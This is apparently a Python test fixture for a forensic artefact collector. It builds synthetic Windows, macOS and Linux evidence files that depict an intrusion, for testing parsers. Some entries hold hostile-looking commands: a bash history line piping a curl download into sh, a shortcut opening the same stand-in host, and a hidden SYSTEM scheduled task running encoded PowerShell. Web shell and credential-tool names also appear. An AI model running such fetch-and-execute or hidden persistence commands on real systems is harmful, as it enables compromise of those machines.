"""Small files in which systems keep what was done, as they write them."""

from __future__ import annotations

import struct
import uuid
from datetime import timedelta

from tests.collecting.artefact_files import (
    CHROMIUM,
    QUARANTINE,
    START,
    database,
    detection,
    jump_list,
    packed,
    prefetch,
    recycled,
    shortcut,
    usn_record,
    wide,
)
from tests.collecting.ese_writer import (
    BINARY,
    BYTE,
    GUID,
    LONG,
    LONG_BINARY,
    LONG_TEXT,
    LONGLONG,
    SHORT,
    TEXT,
    TIME,
    Table,
    ese,
)
from tests.collecting.windows_files import filetime

SYSTEM32 = "\\VOLUME{01d6f8a9a5a3f0d0-5c2f1a2b}\\WINDOWS\\SYSTEM32"
PREFETCH = prefetch("CMD.EXE", [f"{SYSTEM32}\\NTDLL.DLL", f"{SYSTEM32}\\CMD.EXE"], [START, START - timedelta(hours=1)])
PACKED_PREFETCH = packed(PREFETCH)
LNK = shortcut("C:\\Windows\\System32\\cmd.exe", "/c start http://198.51.100.7/a")
JUMP_LIST = jump_list([("C:\\Users\\alice\\a.docx", START, 3), ("D:\\b.zip", START - timedelta(days=1), 1)], {"1": LNK})
USN = bytes(4096) + b"".join(
    (
        usn_record("shell.aspx", 0x100, 8192),
        usn_record("shell.aspx", 0x80000102, 8272),
        usn_record("old.log", 0x80000200, 8352, version=3),
    )
)
RECYCLED = recycled("C:\\Users\\alice\\tools\\mimi.exe", 1_355_680, START)
DETECTION = detection("Backdoor:ASP/Chopper.A!dha", "C:\\inetpub\\wwwroot\\aspnet_client\\s.aspx", START, "ab" * 32)
TASK = (
    b'<?xml version="1.0" encoding="UTF-16"?>\r\n'
    b'<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\r\n'
    b"  <RegistrationInfo><Date>2021-03-02T07:00:00.123</Date><Author>CORP\\adm</Author><URI>\\Update</URI>"
    b"</RegistrationInfo>\r\n  <Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger><TimeTrigger>"
    b"<Repetition><Interval>PT1H</Interval></Repetition><StartBoundary>2021-03-02T08:00:00</StartBoundary></TimeTrigger>"
    b'</Triggers>\r\n  <Principals><Principal id="Author"><UserId>S-1-5-18</UserId>'
    b"<RunLevel>HighestAvailable</RunLevel></Principal></Principals>\r\n"
    b"  <Settings><Enabled>true</Enabled><Hidden>true</Hidden></Settings>\r\n"
    b'  <Actions Context="Author"><Exec><Command>powershell.exe</Command><Arguments>-nop -w hidden -enc AAAA'
    b"</Arguments></Exec></Actions>\r\n</Task>"
)
WER = (
    b"Version=1\r\nEventType=APPCRASH\r\nEventTime=132590808000000000\r\n"
    b"ReportIdentifier=5c2f1a2b-0b2b-4d2b-9c3e-000000000001\r\n"
    b"Sig[0].Name=Application Name\r\nSig[0].Value=w3wp.exe\r\n"
    b"Sig[1].Name=Fault Module Name\r\nSig[1].Value=clr.dll\r\n"
    b"LoadedModule[0]=C:\\Windows\\System32\\inetsrv\\w3wp.exe\r\nLoadedModule[1]=C:\\Windows\\Temp\\x.dll\r\n"
    b"AppName=IIS Worker Process\r\nAppPath=C:\\Windows\\System32\\inetsrv\\w3wp.exe\r\n"
)
CMTRACE = (
    b'<![LOG[Executing command line "cmd.exe" /c a.bat]LOG]!><time="07:00:00.123+000" date="03-02-2021"'
    b' component="execmgr" context="" type="1" thread="4242" file="execreq.cpp:4123">\r\n'
    b'<![LOG[line one\r\nline two]LOG]!><time="08:00:01.5-060" date="03-02-2021" component="x" context="" type="3"'
    b' thread="1" file="">\r\n'
)
REMOTE_ACCESS = (
    b"123456789\tATTACKER-PC\t02-03-2021 07:00:00\t02-03-2021 07:05:00"
    b"\talice\tRemoteControl\t{5c2f1a2b-0000-0000-0000-000000000001}\r\n"
    b"223456789\t\t02-03-2021 08:00:00\t02-03-2021 08:05:00"
    b"\talice\tFileTransfer\t{5c2f1a2b-0000-0000-0000-000000000002}\r\n"
)
ANYDESK = (
    b"   info 2021-03-02 07:00:00.123       gsvc   4628   3528                anynet.any_socket - Logged in from"
    b" 203.0.113.9:50112 on relay 1a2b.\r\n"
    b"   info 2021-03-02 07:00:01.123       lsvc   4628   3528    1   app.backend_session - Incoming session request:"
    b" bob (987654321)\r\n"
)
DPKG = (
    b"2021-03-02 07:00:00 startup archives unpack\n2021-03-02 07:00:00 install nmap:amd64 <none> 7.91+dfsg1-1\n"
    b"2021-03-02 07:00:01 status installed nmap:amd64 7.91+dfsg1-1\n"
)
APT = (
    b"\nStart-Date: 2021-03-02  07:00:00\nCommandline: apt-get install -y nmap\nRequested-By: alice (1000)\n"
    b"Install: nmap:amd64 (7.91+dfsg1-1), libblas3:amd64 (3.9.0-3, automatic)\nEnd-Date: 2021-03-02  07:00:05\n"
    b"\nStart-Date: 2021-03-02  08:00:00\nRemove: nmap:amd64 (7.91+dfsg1-1)\nEnd-Date: 2021-03-02  08:00:05\n"
)
SHELL_HISTORY = b"#1614668400\ncurl http://198.51.100.7/a | sh\n#1614668405\nfor i in 1 2\ndo echo $i\ndone\n"


def last_login(seconds: int, line: str, host: str) -> bytes:
    """A record of lastlog."""
    return struct.pack("<I32s256s", seconds, line.encode(), host.encode())


NETWORK, APPLICATIONS = "{973F5D5C-1D90-4944-BE8E-24B94231A174}", "{D10CA2FE-6FCF-4F6D-848E-B2E99266FA89}"
SEVEN = 44257.291666666664  # 2021-03-02T07:00:00Z in days since 1899
ID_MAP: Table = (
    {"IdType": BYTE, "IdIndex": LONG, "IdBlob": LONG_BINARY},
    [
        {"IdType": 0, "IdIndex": 7, "IdBlob": wide("\\Device\\HarddiskVolume2\\Users\\Public\\x.exe\0")},
        {"IdType": 3, "IdIndex": 8, "IdBlob": bytes.fromhex("010100000000000512000000")},
    ],
)
SRUM_TABLES: dict[str, Table] = {
    "SruDbIdMapTable": ID_MAP,
    NETWORK: (
        {
            "AutoIncId": LONG,
            "TimeStamp": TIME,
            "AppId": LONG,
            "UserId": LONG,
            "BytesSent": LONGLONG,
            "BytesRecvd": LONGLONG,
        },
        [
            {"AutoIncId": 1, "TimeStamp": SEVEN, "AppId": 7, "UserId": 8, "BytesSent": 734_003_200, "BytesRecvd": 4096},
            {"AutoIncId": 2, "TimeStamp": SEVEN + 1 / 24, "AppId": 9, "UserId": 8, "BytesSent": 1, "BytesRecvd": None},
        ],
    ),
}
SRUM = ese(SRUM_TABLES)
UAL_TABLES: dict[str, Table] = {
    "CLIENTS": (
        {"RoleGuid": GUID, "InsertDate": TIME, "LastAccess": TIME, "TotalAccesses": LONG, "Day1": SHORT, "Day61": SHORT,
         "Address": BINARY, "AuthenticatedUserName": TEXT, "ClientName": TEXT},
        [
            {"RoleGuid": uuid.UUID("10A9226F-50EE-49D8-A393-9A501D47CE04").bytes_le, "InsertDate": filetime(START),
             "LastAccess": filetime(START), "TotalAccesses": 9, "Day61": 9, "Address": bytes([203, 0, 113, 9]),
             "AuthenticatedUserName": "corp\\alice"},
        ],
    ),
    "ROLE_IDS": ({"RoleGuid": GUID, "ProductName": TEXT}, [{"ProductName": "Windows Server 2019 Standard"}]),
}  # fmt: skip
UAL = ese(UAL_TABLES)
WEBCACHE = ese(
    {
        "Containers": (
            {"ContainerId": LONGLONG, "Name": TEXT, "Directory": TEXT},
            [{"ContainerId": 5, "Name": "History"}],
        ),
        "Container_5": (
            {"EntryId": LONGLONG, "AccessedTime": LONGLONG, "AccessCount": LONG, "Url": LONG_TEXT},
            [
                {
                    "EntryId": 3,
                    "AccessedTime": filetime(START),
                    "AccessCount": 2,
                    "Url": "Visited: alice@http://198.51.100.7/",
                }
            ],
        ),
    }
)
LASTLOG = last_login(1_614_668_400, "pts/0", "203.0.113.9") + bytes(292 * 999) + last_login(1_614_668_405, "tty1", "")
ANTIVIRUS = (
    b"20210302<;>0700<;>Backdoor.ASP.CHOPPER<;>1<;>2<;>0<;>C:\\inetpub\\wwwroot\\<;>s.aspx<;><;>1614668400<;>0<;>0\r\n"
    b"20210302<;>701<;>Eicar_test_file<;>3<;>1<;>0<;>C:\\temp\\<;>eicar.com<;>\r\n"
)


def asl(records: list[tuple[int, str, str, str]]) -> bytes:
    """Apple's system log: moments, hosts, programs, messages; each has one more value."""
    texts, places, at = b"", dict[str, int](), 80

    def text(said: str) -> int:
        nonlocal texts
        raw = said.encode()
        if len(raw) < 8:
            return int.from_bytes(bytes([0x80 | len(raw)]) + raw.ljust(7, b"\0"), "big")
        if said not in places:
            places[said] = at + len(texts)
            texts += struct.pack(">HI", 1, len(raw) + 1) + raw + b"\0"
        return places[said]

    rows = [
        [text(one) for one in (host, program, "daemon", message, "Sender_Mach_UUID", "AB")]
        for _, host, program, message in records
    ]
    first, body = at + len(texts), b""
    size = 98 + 16 + 8
    for number, ((seconds, *_), parts) in enumerate(zip(records, rows, strict=True), 1):
        following = first + number * size if number < len(records) else 0
        body += struct.pack(
            ">HIQQQIHHIiiiiIIQQQQ",
            0,
            size - 6,
            following,
            number,
            seconds,
            5000,
            4,
            0,
            812,
            0,
            0,
            -1,
            -1,
            0,
            2,
            *parts[:4],
        )
        body += struct.pack(">QQQ", *parts[4:], 0)
    head = struct.pack(">12sIQQIQ", b"ASL DB", 2, first, records[0][0], 256, first).ljust(80, b"\0")
    return head + texts + body


ASL = asl(
    [
        (1_614_668_400, "mac1.example.org", "sshd", "error: PAM: authentication error for root from 203.0.113.9"),
        (1_614_668_405, "mac1.example.org", "sudo", "alice : TTY=ttys000 ; PWD=/ ; USER=root ; COMMAND=/bin/sh"),
    ]
)


def utmpx(user: bytes, line: bytes, kind: int, seconds: int, host: bytes = b"") -> bytes:
    """A record of logins on macOS."""
    return struct.pack("<256s4s32sihhIi256s64s", user, b"s000", line, 812, kind, 0, seconds, 250_000, host, b"")


UTMPX = (
    struct.pack("<256s4s32sihhIi256s64s", b"utmpx-1.00", b"", b"", 0, 10, 0, 0, 0, b"", b"")
    + utmpx(b"", b"", 2, 1_614_668_300)
    + utmpx(b"alice", b"ttys000", 7, 1_614_668_400, b"203.0.113.9")
)
KERNEL_PROCESS = uuid.UUID("22fb2cd6-0e7b-422b-a0c7-2fad1fd0e716").bytes_le


def trace_event(number: int, count: int, data: bytes, process: int = 812) -> bytes:
    """An event of a provider in a trace."""
    head = struct.pack("<HHHHIIQ16s", 80 + len(data), 0xC013, 0, 0, 4242, process, count, KERNEL_PROCESS)
    head += struct.pack("<HBBBBHQ", number, 2, 16, 4, 1, 1, 0x10)
    return (head.ljust(80, b"\0") + data).ljust((80 + len(data) + 7) // 8 * 8, b"\xff")


def trace(*buffers: bytes, size: int = 4096) -> bytes:
    """A trace of a session that counts in FILETIME."""
    names = wide("Circular\0C:\\x.etl\0")
    payload = struct.pack("<IIIIQIIIIIIII", size, 0x0105000A, 19041, 4, 0, 0, 0, 0, len(buffers), 1, 8, 0, 2400)
    payload = payload.ljust(256, b"\0") + struct.pack("<QQII", 10_000_000, filetime(START), 2, 0) + names
    first = struct.pack("<HHHBBIIQQ", 2, 0xC002, 32 + len(payload), 0, 0, 1, 4, 0, 0) + payload
    made = b""
    for number, content in enumerate(buffers):
        content = first.ljust((len(first) + 7) // 8 * 8, b"\xff") + content if number == 0 else content
        head = struct.pack("<IIIIQqQHHIIHH", size, 0, 0, 0, 0, number, 0, 0, 1, 0, 72 + len(content), 0, 0)
        made += (head.ljust(72, b"\0") + content).ljust(size, b"\xff")
    return made


KERNEL_RECORD = struct.pack("<HHHBBQ", 2, 0xC011, 16, 0x32, 0x0F, 70_000_000)
ETL = trace(
    trace_event(1, 50_000_000, wide("\\Device\\HarddiskVolume2\\Users\\Public\\x.exe\0")),
    trace_event(2, 60_000_000, b"http://198.51.100.7/a\0") + KERNEL_RECORD,
)
LOGFMT = (
    b'time="2021-03-02T07:00:00Z" level=info msg="Accepted connection" remote=203.0.113.9 caller=main.go:12\n'
    b"ts=2021-03-02T07:00:01.5Z level=error msg=timeout caller=dial.go:7\n"
)
OTLP = (
    b'{"resourceLogs":[{"resource":{"attributes":[{"key":"host.name","value":{"stringValue":"web1"}},{"key":'
    b'"service.name","value":{"stringValue":"shop"}}]},"scopeLogs":[{"scope":{"name":"x"},"logRecords":[{"timeUnixNano":'
    b'"1614668400000000000","severityText":"INFO","body":{"stringValue":"GET /a from 203.0.113.9"},'
    b'"attributes":[{"key":'
    b'"http.status_code","value":{"intValue":"200"}}]}]}]}]}\n'
)
ARTEFACT_SAMPLES: dict[str, tuple[str, bytes]] = {
    "windows-prefetch": ("WS1/C/Windows/Prefetch/CMD.EXE-0BD30981.pf", PREFETCH),
    "windows-lnk": ("WS1/C/Users/alice/Desktop/a.lnk", LNK),
    "windows-jumplist": (
        "WS1/C/Users/alice/AppData/Roaming/Microsoft/Windows/Recent/AutomaticDestinations/5f7b5f1e01b83767.automaticDestinations-ms",
        JUMP_LIST,
    ),
    "windows-usn": ("WS1/C/$Extend/$J", USN[4096:]),
    "windows-recycle-bin": ("WS1/C/$Recycle.Bin/S-1-5-21-1-2-3-1001/$I0A1B2C.exe", RECYCLED),
    "windows-detection-history": ("WS1/C/ProgramData/Microsoft/Windows Defender/x/6FFD37B7", DETECTION),
    "windows-ese": ("WS1/C/Windows/System32/sru/SRUDB.dat", SRUM),
    "browser-history": ("WS1/C/Users/alice/AppData/Local/Google/Chrome/User Data/Default/History", database(CHROMIUM)),
    "user-databases": (
        "mac1/Users/a/Library/Preferences/com.apple.LaunchServices.QuarantineEventsV2",
        database(QUARANTINE),
    ),
    "windows-task": ("WS1/C/Windows/System32/Tasks/Update", TASK),
    "windows-wer": ("WS1/C/ProgramData/Microsoft/Windows/WER/ReportArchive/AppCrash_w3wp/Report.wer", WER),
    "windows-cmtrace": ("WS1/C/Windows/CCM/Logs/execmgr.log", CMTRACE),
    "remote-access": ("WS1/C/Program Files/TeamViewer/Connections_incoming.txt", REMOTE_ACCESS),
    "package-log": ("web1/var/log/dpkg.log", DPKG),
    "shell-history": ("web1/home/alice/.bash_history", SHELL_HISTORY),
    "windows-etl": ("WS1/C/Windows/System32/LogFiles/WMI/x.etl", ETL),
    "logfmt": ("web1/var/log/app.log", LOGFMT),
    "otlp": ("otel/logs.json", OTLP),
    "antivirus-log": ("WS1/C/Program Files (x86)/Trend Micro/Client/Misc/pccnt35.log", ANTIVIRUS),
    "macos-asl": ("mac1/private/var/log/asl/2021.03.02.G80.asl", ASL),
    "macos-utmpx": ("mac1/private/var/run/utmpx", UTMPX),
    "lastlog": ("web1/var/log/lastlog", LASTLOG),
}
